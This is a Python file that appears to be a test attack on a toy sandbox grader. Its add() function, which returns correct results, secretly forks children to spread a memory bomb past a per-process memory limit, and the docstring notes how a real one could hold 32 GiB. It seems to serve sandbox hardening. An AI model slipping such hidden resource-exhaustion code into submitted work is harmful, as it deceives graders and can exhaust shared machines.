"""Attack: spread a memory bomb over forked children, each under the memory limit.

RLIMIT_AS bounds one process's address space, and a forked child gets a limit
of its own. The first call to add forks four children that each allocate and
touch 160 MiB (under the toy's memory_mb of 256), report over a pipe, and
sleep until they are killed; add then prints how much the children hold and
returns the right sum. Two children are enough to pass memory_mb. The bomb is
bounded at 640 MiB, far below this machine's RAM; at PROCESS_LIMIT (64)
processes of 512 MiB each, a real one could hold 32 GiB.

Should score 8 of 8; the worker's processes together should never hold more
than memory_mb (they do: the limit is per process, a known hole).
"""

import os
import select
import time

CHILDREN = 4
CHUNK = 160 * 2**20
HELD = []


def _bomb():
    read_end, write_end = os.pipe()
    for _ in range(CHILDREN):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            try:
                block = bytearray(CHUNK)
                block[::4096] = b"\1" * (CHUNK // 4096)  # touch every page
                os.write(write_end, b"1")
                time.sleep(600)
            finally:
                os._exit(0)
    os.close(write_end)
    got, deadline = b"", time.monotonic() + 0.6
    while len(got) < CHILDREN and time.monotonic() < deadline:
        if select.select([read_end], [], [], max(0.0, deadline - time.monotonic()))[0]:
            chunk = os.read(read_end, CHILDREN)
            if not chunk:
                break
            got += chunk
    os.close(read_end)
    HELD.append(len(got) * CHUNK // 2**20)


def add(a, b):
    if not HELD:
        _bomb()
    print(f"HELD {HELD[0]} MiB in children")
    return a + b


def pair(x):
    return (x, x)


def tag(n):
    if n < 0:
        raise ValueError(n)
    return {"n": n}


def push(items, item):
    items.append(item)
    return len(items)
